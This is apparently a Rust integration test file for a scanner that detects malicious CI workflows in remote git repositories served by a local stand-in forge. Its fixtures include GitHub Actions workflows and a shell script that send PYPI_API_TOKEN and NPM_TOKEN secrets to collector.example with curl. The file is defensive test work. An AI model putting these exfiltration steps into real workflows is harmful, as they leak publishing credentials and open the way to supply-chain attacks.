//! `portcullis scan` of addresses: a stand-in of a forge on loopback hands out real repositories.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use crate::stand_in::{Answer, StandIn, git};
use serde_json::Value;

const BENIGN: &str =
    "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n";
const PUBLISH: &str = "on: release\njobs:\n  p:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: pypa/gh-action-pypi-publish@release/v1\n        with:\n          password: ${{ secrets.PYPI_API_TOKEN }}\n";
const CALL: &str = "name: Security\non: [push]\njobs:\n  send:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - env:\n          PYPI_API_TOKEN: ${{ secrets.PYPI_API_TOKEN }}\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n        run: bash tools/send.sh\n";
const SCRIPT: &str = "curl -s -d \"a=$PYPI_API_TOKEN&b=$NPM_TOKEN\" https://collector.example/in\n";
const STEAL: &str = "name: Security\non: [push]\njobs:\n  send:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -s -d 'PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}&NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://collector.example/in\n";

fn portcullis(arguments: &[&str]) -> Output {
    portcullis_with(arguments, &[])
}

fn portcullis_with(arguments: &[&str], environment: &[(&str, &str)]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_portcullis"));
    command.args(["scan", "--format", "json"]).args(arguments);
    for name in
        ["RUST_LOG", "GITHUB_TOKEN", "GITHUB_API_URL", "GITHUB_SERVER_URL", "GITLAB_TOKEN", "CI_SERVER_URL"]
    {
        command.env_remove(name);
    }
    // Nobody's git is needed, and nobody's proxy.
    for name in ["HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy", "PATH"] {
        command.env_remove(name);
    }
    command.envs(environment.iter().copied()).output().unwrap()
}

fn document(output: &Output) -> Value {
    serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|error| panic!("{error}: {}", String::from_utf8_lossy(&output.stderr)))
}

fn kinds(document: &Value) -> Vec<&str> {
    document["problems"].as_array().unwrap().iter().map(|problem| problem["kind"].as_str().unwrap()).collect()
}

fn write(folder: &Path, path: &str, text: impl AsRef<[u8]>) {
    let path = folder.join(path);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn commit(folder: &Path, message: &str) -> String {
    git(folder, &["add", "--all"]);
    git(folder, &["commit", "--quiet", "--message", message]);
    git(folder, &["rev-parse", "HEAD"])
}

/// A forge's folder with work trees that are pushed to it.
struct Forge {
    folder: tempfile::TempDir,
}

impl Forge {
    fn new() -> Self {
        Self { folder: tempfile::tempdir().unwrap() }
    }

    fn root(&self) -> PathBuf {
        self.folder.path().join("served")
    }

    /// An empty repository on the server, and a work tree to push from.
    fn create(&self, name: &str, filters: bool) -> PathBuf {
        let bare = self.root().join(format!("{name}.git"));
        std::fs::create_dir_all(&bare).unwrap();
        git(&bare, &["init", "--quiet", "--bare", "--initial-branch=main"]);
        git(&bare, &["config", "uploadpack.allowFilter", if filters { "true" } else { "false" }]);
        let tree = self.folder.path().join("trees").join(name);
        std::fs::create_dir_all(&tree).unwrap();
        git(&tree, &["init", "--quiet", "--initial-branch=main"]);
        git(&tree, &["remote", "add", "origin", bare.to_str().unwrap()]);
        tree
    }

    /// The incident: a theft through a script, taken out again, on `main`; ordinary files beside it.
    fn victim(&self, name: &str, filters: bool) -> PathBuf {
        let tree = self.create(name, filters);
        write(&tree, ".github/workflows/publish.yml", PUBLISH);
        write(&tree, "pyproject.toml", "[project]\nname = \"fish\"\n");
        write(&tree, "src/large.txt", "an ordinary line\n".repeat(20_000));
        write(&tree, "README.md", "fish\n");
        commit(&tree, "Start");
        write(&tree, ".github/workflows/security.yml", CALL);
        write(&tree, "tools/send.sh", SCRIPT);
        commit(&tree, "Add security workflow");
        git(&tree, &["rm", "--quiet", ".github/workflows/security.yml", "tools/send.sh"]);
        commit(&tree, "Remove");
        git(&tree, &["push", "--quiet", "origin", "main"]);
        tree
    }
}

fn blobs(tree: &Path, paths: &[(&str, &str)]) -> BTreeSet<String> {
    paths.iter().map(|(commit, path)| git(tree, &["rev-parse", &format!("{commit}:{path}")])).collect()
}

#[test]
fn a_remote_repository_is_scanned_and_only_what_the_scan_needs_is_fetched() {
    let forge = Forge::new();
    let tree = forge.victim("example-org/fish", true);
    let server = StandIn::new(&forge.root(), |_| None);
    let url = format!("{}/example-org/fish.git", server.url);
    let output = portcullis(&[&url]);
    let found = document(&output);
    assert_eq!(output.status.code(), Some(1), "{found}");
    let finding = found["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|finding| finding["verdict"] == "malicious")
        .unwrap();
    assert_eq!(finding["path"], ".github/workflows/security.yml");
    assert_eq!(finding["repository"]["given"], Value::from(url));
    assert_eq!(finding["repository"]["identity"], "127.0.0.1/example-org/fish");
    assert_eq!(finding["exposures"][0]["refs"][0]["ref"], "refs/heads/main");
    let pypi = finding["secrets"]
        .as_array()
        .unwrap()
        .iter()
        .find(|secret| secret["name"] == "PYPI_API_TOKEN")
        .unwrap();
    assert_eq!(pypi["used_for"][0]["package"], "fish", "{pypi}");
    assert_eq!((&found["complete"], kinds(&found).as_slice()), (&Value::Bool(true), [].as_slice()));
    assert_eq!(
        (&found["stats"]["commits"], &found["stats"]["repositories"]),
        (&Value::from(3), &Value::from(1))
    );
    let needed = blobs(
        &tree,
        &[
            ("HEAD", ".github/workflows/publish.yml"),
            ("HEAD~1", ".github/workflows/security.yml"),
            ("HEAD~1", "tools/send.sh"),
            ("HEAD", "pyproject.toml"),
        ],
    );
    assert_eq!(server.handed_out("blob"), needed, "ordinary files stay on the server");
    assert_eq!(server.handed_out("commit").len(), 3);
}

#[test]
fn a_server_without_filters_sends_everything_within_the_bound() {
    let forge = Forge::new();
    forge.victim("example-org/fish", false);
    let server = StandIn::new(&forge.root(), |_| None);
    let url = format!("{}/example-org/fish.git", server.url);
    let found = document(&portcullis(&[&url]));
    assert_eq!(found["complete"], true, "{found}");
    assert_eq!(found["findings"][0]["verdict"], "malicious");
    let bytes = server.pack_bytes();
    let at = portcullis(&["--max-fetch", &bytes.to_string(), &url]);
    assert_eq!(at.status.code(), Some(1), "{}", String::from_utf8_lossy(&at.stderr));
    let past = portcullis(&["--max-fetch", &(bytes - 1).to_string(), &url]);
    assert_eq!(
        (past.status.code(), kinds(&document(&past)).as_slice()),
        (Some(2), ["over-limit"].as_slice())
    );
}

#[test]
fn references_of_requests_are_looked_at_and_are_foreign() {
    for reference in ["refs/pull/7/head", "refs/merge-requests/7/head"] {
        let forge = Forge::new();
        let tree = forge.create("example-org/fish", true);
        write(&tree, ".github/workflows/test.yml", BENIGN);
        commit(&tree, "Start");
        git(&tree, &["push", "--quiet", "origin", "main"]);
        write(&tree, ".github/workflows/security.yml", STEAL);
        commit(&tree, "Add");
        git(&tree, &["push", "--quiet", "origin", &format!("HEAD:{reference}")]);
        let server = StandIn::new(&forge.root(), |_| None);
        let found = document(&portcullis(&[&format!("{}/example-org/fish.git", server.url)]));
        assert_eq!(found["findings"][0]["verdict"], "malicious", "{found}");
        assert_eq!(found["findings"][0]["standing"], "foreign", "{reference}");
    }
}

#[test]
fn commits_that_nothing_leads_to_are_fetched_by_their_id_or_missed_aloud() {
    let forge = Forge::new();
    let tree = forge.create("example-org/fish", true);
    write(&tree, ".github/workflows/test.yml", BENIGN);
    commit(&tree, "Start");
    write(&tree, ".github/workflows/security.yml", STEAL);
    let hidden = commit(&tree, "Add");
    git(&tree, &["push", "--quiet", "origin", "main"]);
    git(&tree, &["reset", "--quiet", "--hard", "HEAD~1"]);
    git(&tree, &["push", "--quiet", "--force", "origin", "main"]);
    let server = StandIn::new(&forge.root(), |_| None);
    let url = format!("{}/example-org/fish.git", server.url);
    let blind = document(&portcullis(&[&url]));
    assert_eq!(
        (&blind["findings"], &blind["complete"]),
        (&Value::from(Vec::<Value>::new()), &Value::Bool(true))
    );

    let list = forge.folder.path().join("commits");
    std::fs::write(&list, format!("{hidden}\n")).unwrap();
    let list = list.to_str().unwrap();
    let found = document(&portcullis(&["--commits", list, &url]));
    assert_eq!(found["findings"][0]["verdict"], "malicious", "{found}");
    assert_eq!(
        (&found["complete"], found["findings"][0]["standing"].as_str()),
        (&Value::Bool(true), Some("foreign"))
    );

    let gone = "1".repeat(40);
    std::fs::write(list, format!("{hidden}\n{gone} 2026-02-03T04:05:06Z\n")).unwrap();
    let found = document(&portcullis(&["--commits", list, &url]));
    assert_eq!(
        found["findings"][0]["verdict"], "malicious",
        "one that is gone keeps no other from being had"
    );
    assert_eq!(
        (&found["complete"], kinds(&found).as_slice()),
        (&Value::Bool(false), ["history-incomplete"].as_slice())
    );
    let what = found["problems"][0]["what"].as_str().unwrap();
    assert!(
        what.starts_with("history-incomplete since 2026-02-03T04:05:06Z") && what.contains(&gone),
        "{what}"
    );
}

#[test]
fn credentials_are_neither_sent_nor_shown() {
    let forge = Forge::new();
    forge.victim("example-org/fish", true);
    let server = StandIn::new(&forge.root(), |_| None);
    let url = format!("{}/example-org/fish.git", server.url).replace("http://", "http://mara:hunter2@");
    let output =
        portcullis_with(&[&url], &[("GITHUB_TOKEN", "ghp_example"), ("GITLAB_TOKEN", "glpat-example")]);
    let text =
        format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert_eq!(output.status.code(), Some(1), "{text}");
    assert!(!text.contains("hunter2") && !text.contains("mara:") && !text.contains("_example"), "{text}");
    // A token belongs to its forge; this host is nobody's.
    assert!(server.requests().iter().all(|request| !request.headers.contains_key("authorization")));

    let missing = portcullis(&[&url.replace("fish.git", "other.git")]);
    let text =
        format!("{}{}", String::from_utf8_lossy(&missing.stdout), String::from_utf8_lossy(&missing.stderr));
    assert_eq!(missing.status.code(), Some(2), "{text}");
    assert!(!text.contains("hunter2") && text.contains("404"), "{text}");
}

#[test]
fn nothing_is_asked_but_https_and_no_redirect_leads_elsewhere() {
    for url in [
        "http://forge.example/o/n.git",
        "ssh://git@forge.example/o/n.git",
        "file:///srv/n.git",
        "https://10.0.0.1/o/n.git",
    ] {
        let output = portcullis(&[url]);
        assert_eq!(output.status.code(), Some(2), "{url}");
    }
    let forge = Forge::new();
    forge.victim("example-org/fish", true);
    let target = StandIn::new(&forge.root(), |_| None);
    let elsewhere = target.url.clone();
    let first = StandIn::new(&forge.root(), move |request| {
        Some(Answer::status(302).with("Location", &format!("{elsewhere}{}", request.path)))
    });
    let output = portcullis(&[&format!("{}/example-org/fish.git", first.url)]);
    assert_eq!(output.status.code(), Some(2), "{}", String::from_utf8_lossy(&output.stdout));
    assert_eq!(target.requests().len(), 0);
}

#[test]
fn what_is_no_repository_is_said_to_be_none() {
    let folder = tempfile::tempdir().unwrap();
    let server = StandIn::new(folder.path(), |request| {
        let kind = "application/x-git-upload-pack-advertisement";
        match request.path.split('/').nth(1).unwrap() {
            "page" => Some(Answer::json(&Value::Null)),
            "lines" => {
                Some(Answer { body: b"zzzz".to_vec(), ..Answer::status(200) }.with("Content-Type", kind))
            }
            "old" => Some(
                Answer {
                    body: b"001e# service=git-upload-pack\n0000000eversion 1\n0000".to_vec(),
                    ..Answer::status(200)
                }
                .with("Content-Type", kind),
            ),
            _ => None,
        }
    });
    for (place, said) in [("page", "no git repository"), ("lines", "git's lines"), ("old", "version 2")] {
        let output = portcullis(&[&format!("{}/{place}/n.git", server.url)]);
        let text = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(2), "{text}");
        assert!(text.contains(said), "{place}: {text}");
    }
}

#[test]
fn an_empty_repository_is_complete_and_clean() {
    let forge = Forge::new();
    forge.create("example-org/fish", true);
    let server = StandIn::new(&forge.root(), |_| None);
    let output = portcullis(&[&format!("{}/example-org/fish.git", server.url)]);
    let found = document(&output);
    assert_eq!((output.status.code(), &found["complete"]), (Some(0), &Value::Bool(true)), "{found}");
}

#[test]
fn a_list_may_mix_folders_and_addresses() {
    let forge = Forge::new();
    let tree = forge.victim("example-org/fish", true);
    let server = StandIn::new(&forge.root(), |_| None);
    let list = forge.folder.path().join("list");
    let url = format!("{}/example-org/fish.git", server.url);
    std::fs::write(&list, format!("{url}\n{}\n", tree.display())).unwrap();
    let found = document(&portcullis(&["--repositories", list.to_str().unwrap()]));
    let given: BTreeSet<&str> = found["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|finding| finding["repository"]["given"].as_str().unwrap())
        .collect();
    assert_eq!(given, BTreeSet::from([url.as_str(), tree.to_str().unwrap()]));
    assert_eq!(found["stats"]["repositories"], 2);
}

#[test]
fn every_kind_of_problem_of_a_remote_is_explained() {
    let sources =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/src/remote/error.rs")).unwrap();
    let kinds = sources.split("fn kind(").nth(1).unwrap().split("\n    }\n").next().unwrap();
    let kinds: Vec<&str> = kinds.split('"').skip(1).step_by(2).collect();
    assert!(kinds.len() >= 6, "{kinds:?}");
    for kind in kinds {
        let output = Command::new(env!("CARGO_BIN_EXE_portcullis")).args(["explain", kind]).output().unwrap();
        assert!(output.status.success(), "{kind}: {}", String::from_utf8_lossy(&output.stderr));
    }
}

#[test]
fn commits_are_searched_for_as_long_as_may_be_and_no_longer() {
    let forge = Forge::new();
    let tree = forge.create("example-org/fish", true);
    write(&tree, ".github/workflows/test.yml", BENIGN);
    commit(&tree, "Start");
    git(&tree, &["push", "--quiet", "origin", "main"]);
    write(&tree, ".github/workflows/security.yml", STEAL);
    let hidden = commit(&tree, "Add");
    git(&tree, &["push", "--quiet", "origin", "HEAD:refs/heads/gone"]);
    git(&tree, &["push", "--quiet", "origin", ":refs/heads/gone"]);
    let server = StandIn::new(&forge.root(), |_| None);
    let list = forge.folder.path().join("commits");
    // The server names one that it doesn't have with each refusal; the last request brings the others.
    for (missing, found) in [(63, 1), (64, 0)] {
        let mut ids: Vec<String> = (1..=missing).map(|number| format!("{number:040x}")).collect();
        ids.push(hidden.clone());
        std::fs::write(&list, ids.join("\n")).unwrap();
        let url = format!("{}/example-org/fish.git", server.url);
        let document = document(&portcullis(&["--commits", list.to_str().unwrap(), &url]));
        assert_eq!(document["findings"].as_array().unwrap().len(), found, "{missing}");
        assert_eq!(
            (kinds(&document).len(), &document["complete"]),
            (missing + 1 - found, &Value::Bool(false))
        );
    }
}

#[test]
fn what_a_hostile_server_answers_is_a_problem_and_its_words_are_escaped() {
    let folder = tempfile::tempdir().unwrap();
    let server = StandIn::new(folder.path(), |request| {
        let line = |text: &str| format!("{:04x}{text}", text.len() + 4);
        let answer = |kind: &str, body: Vec<u8>| {
            Some(
                Answer { body, ..Answer::status(200) }
                    .with("Content-Type", &format!("application/x-git-upload-pack-{kind}")),
            )
        };
        let greeting = ["version 2\n", "ls-refs\n", "fetch=filter\n"].map(line).concat() + "0000";
        let place = request.path.split('/').nth(1).unwrap();
        match (place, request.method.as_str()) {
            ("greets", _) => answer("advertisement", line("ERR go \u{1b}[31maway\u{202e}\n").into_bytes()),
            (_, "GET") => answer("advertisement", greeting.into_bytes()),
            (_, _) if String::from_utf8_lossy(&request.body).contains("ls-refs") => answer(
                "result",
                (line(&format!("{} refs/heads/main\n", "1".repeat(40))) + "0000").into_bytes(),
            ),
            ("says", _) => {
                let said = line("packfile\n") + &line("\u{3}no \u{1b}[31mpack\n") + "0000";
                answer("result", said.into_bytes())
            }
            ("lies", _) => {
                let pack = [b"PACK\0\0\0\x02\0\0\0\x01\x3f".as_slice(), &[7; 30]].concat();
                let mut body = (line("packfile\n") + &format!("{:04x}\u{1}", pack.len() + 5)).into_bytes();
                body.extend(pack);
                answer("result", body)
            }
            _ => answer("result", (line("packfile\n") + "0010\u{1}PACK").into_bytes()),
        }
    });
    for (place, said) in [
        ("greets", "go \\u{1b}"),
        ("says", "no \\u{1b}"),
        ("lies", "its pack is broken"),
        ("cuts", "breaks off"),
    ] {
        let output = portcullis(&[&format!("{}/{place}/n.git", server.url)]);
        let text = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(2), "{place}: {text}");
        assert!(text.contains(said), "{place}: {text}");
        assert!(!text.contains('\u{1b}') && !text.contains('\u{202e}'), "{place}: {text}");
    }
}

#[test]
fn without_history_only_the_last_commit_of_the_default_branch_is_fetched() {
    let forge = Forge::new();
    let tree = forge.victim("example-org/fish", true);
    git(&tree, &["checkout", "--quiet", "-b", "dev", "HEAD~1"]);
    git(&tree, &["push", "--quiet", "origin", "dev"]);
    let server = StandIn::new(&forge.root(), |_| None);
    let url = format!("{}/example-org/fish.git", server.url);
    let output = portcullis(&["--no-history", &url]);
    let found = document(&output);
    assert_eq!((output.status.code(), &found["complete"]), (Some(0), &Value::Bool(true)), "{found}");
    assert_eq!(found["stats"]["commits"], 1);
    let main = git(&tree, &["rev-parse", "main"]);
    assert_eq!(server.handed_out("commit"), BTreeSet::from([main]));
    let needed = blobs(&tree, &[("main", ".github/workflows/publish.yml"), ("main", "pyproject.toml")]);
    assert_eq!(server.handed_out("blob"), needed);
    // What still stands there is found.
    git(&tree, &["push", "--quiet", "--force", "origin", "dev:main"]);
    assert_eq!(document(&portcullis(&["--no-history", &url]))["findings"][0]["verdict"], "malicious");
}

#[cfg(unix)]
#[test]
fn what_was_fetched_vanishes_also_where_the_scan_is_interrupted() {
    let forge = Forge::new();
    forge.victim("example-org/fish", true);
    let temporary = tempfile::tempdir().unwrap();
    let left = || std::fs::read_dir(temporary.path()).unwrap().count();
    for (signal, code) in [("-INT", 130), ("-TERM", 143), ("-HUP", 129), ("", 1)] {
        // The files are asked for last: then the copy is there.
        let (asked, reached) = std::sync::mpsc::channel::<()>();
        let (go, gate) = std::sync::mpsc::channel::<()>();
        let (asked, gate) = (std::sync::Mutex::new(asked), std::sync::Mutex::new(gate));
        let posts = std::sync::atomic::AtomicUsize::new(0);
        let server = StandIn::new(&forge.root(), move |request| {
            if request.method == "POST" && posts.fetch_add(1, std::sync::atomic::Ordering::SeqCst) == 2 {
                let _ = asked.lock().unwrap().send(());
                let _ = gate.lock().unwrap().recv_timeout(std::time::Duration::from_secs(30));
            }
            None
        });
        let mut child = Command::new(env!("CARGO_BIN_EXE_portcullis"))
            .args(["scan", "--format", "json", &format!("{}/example-org/fish.git", server.url)])
            .env("TMPDIR", temporary.path())
            .stdout(std::process::Stdio::null())
            .spawn()
            .unwrap();
        reached.recv_timeout(std::time::Duration::from_secs(60)).unwrap();
        assert_eq!(left(), 1, "it fetches into the folder for such things");
        if !signal.is_empty() {
            let sent = Command::new("kill").args([signal, &child.id().to_string()]).status().unwrap();
            assert!(sent.success());
            assert_eq!(child.wait().unwrap().code(), Some(code), "{signal}");
        }
        go.send(()).unwrap();
        assert_eq!(child.wait().unwrap().code(), Some(code), "{signal}");
        assert_eq!(left(), 0, "{signal}");
    }
}

#[test]
fn scripts_that_call_scripts_are_fetched_as_deep_as_the_scanner_follows_them() {
    // The scanner follows 64 files: what lies deeper is its own bound, here as in a clone.
    for depth in [3, 24, 70] {
        let forge = Forge::new();
        let tree = forge.create("example-org/fish", true);
        write(&tree, ".github/workflows/security.yml", CALL.replace("tools/send.sh", "tools/1.sh"));
        for number in 1..depth {
            write(&tree, &format!("tools/{number}.sh"), format!("bash tools/{}.sh\n", number + 1));
        }
        write(&tree, &format!("tools/{depth}.sh"), SCRIPT);
        commit(&tree, "Start");
        git(&tree, &["push", "--quiet", "origin", "main"]);
        let server = StandIn::new(&forge.root(), |_| None);
        let url = format!("{}/example-org/fish.git", server.url);
        let remote = document(&portcullis(&["--min-verdict", "advice", &url]));
        let local = document(&portcullis(&["--min-verdict", "advice", tree.to_str().unwrap()]));
        let shown = |document: &Value| {
            let findings = document["findings"].as_array().unwrap();
            let findings =
                findings.iter().map(|finding| (finding["id"].to_string(), finding["verdict"].to_string()));
            let problems = kinds(document).into_iter().map(str::to_owned).collect::<Vec<_>>();
            (findings.collect::<Vec<_>>(), problems, document["complete"].as_bool())
        };
        assert_eq!(shown(&remote), shown(&local), "{depth}");
        assert_eq!(remote["findings"][0]["verdict"] == "malicious", depth < 64, "{depth}");
    }
}
